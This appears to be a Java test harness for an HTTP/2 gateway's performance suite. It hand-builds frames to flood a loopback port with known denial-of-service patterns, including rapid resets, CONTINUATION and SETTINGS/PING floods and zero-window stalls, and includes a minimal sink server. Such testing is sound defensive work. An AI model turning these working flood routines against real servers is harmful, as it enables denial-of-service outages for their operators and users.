package io.headgate.perf;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.time.Duration;
import java.util.function.IntFunction;

/**
 * Clients for {@code perf/http2-attacks}: {@code KIND PORT SECONDS} attacks over HTTP/2, on four connections at a time,
 * each made anew when it is thrown out; {@code sink} listens for the same bytes, as little of a server as there can be,
 * and prints its port.
 */
public final class Http2Attacks {
    private static final int CONNECTIONS = 4;

    /** As a gateway lets go of a client that it has told to go: so much is read, and so long the connection stays. */
    private static final int SINK_BYTES_MAX = 1024 * 1024;

    private static final Duration SINK_LINGERS = Duration.ofSeconds(2);

    private static final byte[] PREFACE = ascii("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
    private static final byte[] NOTHING = {};
    private static final int FRAMES_AT_ONCE = 100;

    private static final int DATA = 0;
    private static final int HEADERS = 1;
    private static final int PRIORITY = 2;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int WINDOW_UPDATE = 8;
    private static final int CONTINUATION = 9;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;
    private static final int INITIAL_WINDOW_SIZE = 4;

    /** GET / of the host a, in HPACK without a table. */
    private static final byte[] REQUEST = {(byte) 0x82, (byte) 0x86, (byte) 0x84, 0x01, 0x01, 'a'};

    /** The same without a path. */
    private static final byte[] MALFORMED = {(byte) 0x82, (byte) 0x86, 0x01, 0x01, 'a'};

    private Http2Attacks() {}

    /** See above. Ends with status 0 when its time is over; the sink when it is killed. */
    public static void main(String[] args) throws Exception {
        if (args[0].equals("sink")) {
            sink();
        }
        int port = Integer.parseInt(args[1]);
        for (int i = 0; i < CONNECTIONS; i++) {
            Thread.ofPlatform().daemon().start(() -> attack(args[0], port));
        }
        Thread.sleep(Duration.ofSeconds(Integer.parseInt(args[2])));
    }

    private static void attack(String kind, int port) {
        boolean stalls = kind.equals("windows");
        int window = stalls || kind.equals("dribble") ? 0 : 65_535;
        while (true) {
            try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
                OutputStream out = socket.getOutputStream();
                out.write(PREFACE);
                out.write(frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, window)));
                if (stalls) {
                    out.write(frames(i -> request(2 * i + 1), 0));
                    Thread.sleep(Duration.ofMillis(300));
                    continue;
                }
                Thread.ofVirtual().start(() -> readAll(socket));
                for (int from = 0; ; from += FRAMES_AT_ONCE) {
                    out.write(frames(frameOf(kind), from));
                }
            } catch (IOException thrownOut) {
                // comes again
            } catch (InterruptedException e) {
                return;
            }
        }
    }

    private static IntFunction<byte[]> frameOf(String kind) {
        return switch (kind) {
            case "resets" -> i -> both(request(2 * i + 1), frame(RST_STREAM, 0, 2 * i + 1, number(8)));
            case "made-resets" ->
                i -> both(request(2 * i + 1), frame(WINDOW_UPDATE, 0, 2 * i + 1, number(Integer.MAX_VALUE)));
            case "malformed" -> i -> frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, MALFORMED);
            case "settings" -> _ -> frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 65_535));
            case "pings" -> _ -> frame(PING, 0, 0, new byte[8]);
            case "priorities" -> i -> frame(PRIORITY, 0, 2 * i + 1, new byte[5]);
            case "dribble" ->
                i -> i % 100 == 0 ? request(streamOf(i)) : frame(WINDOW_UPDATE, 0, streamOf(i), number(1));
            case "empty-data" ->
                i -> i % 100 == 0
                        ? frame(HEADERS, END_HEADERS, streamOf(i), REQUEST)
                        : frame(DATA, 0, streamOf(i), NOTHING);
            case "continuations" -> i -> frame(i == 0 ? HEADERS : CONTINUATION, 0, 1, new byte[1]);
            default -> throw new IllegalArgumentException("no attack is called " + kind);
        };
    }

    /** Where a stream has 100 frames. */
    private static int streamOf(int frame) {
        return frame / 100 * 2 + 1;
    }

    private static byte[] request(int stream) {
        return frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST);
    }

    private static byte[] frames(IntFunction<byte[]> frame, int from) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (int i = from; i < from + FRAMES_AT_ONCE; i++) {
            all.writeBytes(frame.apply(i));
        }
        return all.toByteArray();
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        return ByteBuffer.allocate(9 + payload.length)
                .putShort((short) (payload.length >> 8))
                .put((byte) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .array();
    }

    private static byte[] setting(int name, int value) {
        return ByteBuffer.allocate(6).putShort((short) name).putInt(value).array();
    }

    private static byte[] number(int value) {
        return ByteBuffer.allocate(4).putInt(value).array();
    }

    private static byte[] both(byte[] first, byte[] second) {
        return ByteBuffer.allocate(first.length + second.length)
                .put(first)
                .put(second)
                .array();
    }

    private static byte[] ascii(String text) {
        return text.getBytes(java.nio.charset.StandardCharsets.US_ASCII);
    }

    private static void readAll(Socket socket) {
        try {
            socket.getInputStream().transferTo(OutputStream.nullOutputStream());
        } catch (IOException gone) {
            // whoever writes hears of it
        }
    }

    private static void sink() throws IOException {
        try (ServerSocket listening = new ServerSocket(0, 1024, InetAddress.getLoopbackAddress())) {
            System.out.println(listening.getLocalPort());
            while (true) {
                Socket client = listening.accept();
                Thread.ofVirtual().start(() -> swallow(client));
            }
        }
    }

    private static void swallow(Socket client) {
        try (client) {
            long endNs = System.nanoTime() + SINK_LINGERS.toNanos();
            client.setSoTimeout((int) SINK_LINGERS.toMillis());
            client.getInputStream().skipNBytes(SINK_BYTES_MAX);
            Thread.sleep(Duration.ofNanos(Math.max(0, endNs - System.nanoTime())));
        } catch (IOException | InterruptedException gone) {
            // as little as there can be
        }
    }
}
